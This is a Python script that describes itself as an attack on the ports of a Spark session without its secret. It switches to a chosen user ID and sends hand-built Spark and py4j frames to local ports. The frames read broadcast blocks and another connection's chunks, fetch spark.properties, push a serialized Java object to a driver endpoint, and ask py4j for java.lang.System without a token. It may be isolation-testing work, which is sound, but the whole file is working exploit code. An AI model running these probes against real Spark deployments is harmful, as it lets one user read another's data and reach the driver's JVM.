"""Attack on the ports of a Spark session without its secret; a script of the standard library alone.

``python port_attack.py UID PORT…`` changes to that user for good, and prints a line of JSON for each
message: the port, the message, the kind of the answer and its bytes. The frames are Spark's own
(common/network-common, ``MessageEncoder``): a length of eight bytes that counts itself, a byte for the kind, the body.
Each has the end of a line in it, for py4j, which reads lines.
"""

import base64
import encodings.idna  # noqa: F401 - the other user may not read the library
import json
import os
import socket
import struct
import sys

RPC_REQUEST, RPC_RESPONSE = 3, 4
CHUNK_REQUEST, CHUNK_SUCCESS = 0, 1
STREAM_REQUEST, STREAM_RESPONSE = 6, 7
SUCCESSES = (CHUNK_SUCCESS, RPC_RESPONSE, STREAM_RESPONSE)
_PATIENCE_S = 20.0
_BLOCKS = 6  # that of the context is the second one


def main() -> None:
    """Try every port with every message."""
    uid, *ports = map(int, sys.argv[1:])
    if uid != os.geteuid():
        os.setgroups([])
        os.setresgid(uid, uid, uid)
        os.setresuid(uid, uid, uid)
    for port in ports:
        for attack in (read_blocks, call_endpoint, read_chunk, read_stream, call_java):
            try:
                with socket.create_connection(("127.0.0.1", port), _PATIENCE_S) as channel:
                    kind, answer = attack(channel, port)
            except (OSError, EOFError) as error:
                kind, answer = -1, type(error).__name__.encode()
            told = {"uid": os.geteuid(), "port": port, "attack": attack.__name__, "kind": kind}
            print(json.dumps({**told, "answer": base64.b64encode(answer).decode()}), flush=True)


def read_blocks(channel: socket.socket, _: int) -> "tuple[int, bytes]":
    """Ask the block manager for the first broadcasts: ``OpenBlocks``, then the one chunk of the stream."""
    blocks = b""
    for number in range(_BLOCKS):
        request = _text("any\n") + _text("driver") + struct.pack(">i", 1) + _text(f"broadcast_{number}_piece0")
        kind, answer = _call(channel, b"\0" + request)
        if kind == RPC_RESPONSE and answer[12:13] == b"\3":  # a StreamHandle
            (stream,) = struct.unpack(">q", answer[13:21])
            _send(channel, CHUNK_REQUEST, struct.pack(">qi", stream, 0))
            kind, answer = _receive(channel)
            blocks += answer if kind == CHUNK_SUCCESS else b""
    return (CHUNK_SUCCESS, blocks) if blocks else (kind, answer)


def call_endpoint(channel: socket.socket, port: int) -> "tuple[int, bytes]":
    """Send a Java object to the driver, which deserializes it before any check of its class."""
    host, name = b"127.0.0.1", b"endpoint-verifier"
    receiver = b"\1" + struct.pack(">H", len(host)) + host + struct.pack(">i", port)
    return _call(channel, b"\0" + receiver + struct.pack(">H", len(name)) + name + b"\xac\xed\0\5t\0\5hell\n")


def read_chunk(channel: socket.socket, _: int) -> "tuple[int, bytes]":
    """Ask for a chunk of a stream that another connection may have opened."""
    _send(channel, CHUNK_REQUEST, struct.pack(">qi", ord("\n"), 0))
    return _receive(channel)


def read_stream(channel: socket.socket, _: int) -> "tuple[int, bytes]":
    """Ask for a file of the session."""
    _send(channel, STREAM_REQUEST, _text("/files/spark.properties\n"))
    return _receive(channel)


def call_java(channel: socket.socket, _: int) -> "tuple[int, bytes]":
    """Ask py4j for a class, as Python of the driver does after it has shown its token."""
    channel.sendall(b"r\nu\njava.lang.System\nrj\ne\n")
    answer = channel.recv(4096)
    return (RPC_RESPONSE if answer.startswith(b"!y") else -1), answer


def _call(channel: socket.socket, body: bytes) -> "tuple[int, bytes]":
    _send(channel, RPC_REQUEST, struct.pack(">qi", 7, len(body)) + body)
    return _receive(channel)


def _send(channel: socket.socket, kind: int, body: bytes) -> None:
    channel.sendall(struct.pack(">qb", len(body) + 9, kind) + body)


def _receive(channel: socket.socket) -> "tuple[int, bytes]":
    (length,) = struct.unpack(">q", _read(channel, 8))
    if not 9 <= length <= 1 << 24:
        raise EOFError
    frame = _read(channel, length - 8)
    return frame[0], frame[1:]


def _read(channel: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        piece = channel.recv(size - len(data))
        if not piece:
            raise EOFError
        data += piece
    return data


def _text(text: str) -> bytes:
    return struct.pack(">i", len(text)) + text.encode()


if __name__ == "__main__":
    main()
